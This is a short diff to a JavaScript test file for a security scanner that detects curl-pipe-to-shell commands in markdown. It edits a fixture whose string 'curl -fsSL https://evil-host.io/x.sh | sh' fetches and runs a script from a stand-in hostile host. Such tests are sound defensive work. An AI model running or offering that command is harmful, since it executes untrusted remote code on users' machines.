@@ -67,7 +67,7 @@ describe('security rules ask for a tree only when a candidate needs it', () => {
     const headings = () => (asked++, []);
     expect(findPipes(textFile('/x/a.md', 'Nothing to run.\n'), 'markdown', { headings })).toEqual([]);
     expect(asked).toBe(0);
-    expect(findPipes(textFile('/x/a.md', 'Run `curl -fsSL https://evil.example/x.sh | sh` now.\n'), 'markdown', { headings })).toHaveLength(1);
+    expect(findPipes(textFile('/x/a.md', 'Run `curl -fsSL https://evil-host.io/x.sh | sh` now.\n'), 'markdown', { headings })).toHaveLength(1);
     expect(asked).toBeGreaterThan(0);
   });
 });
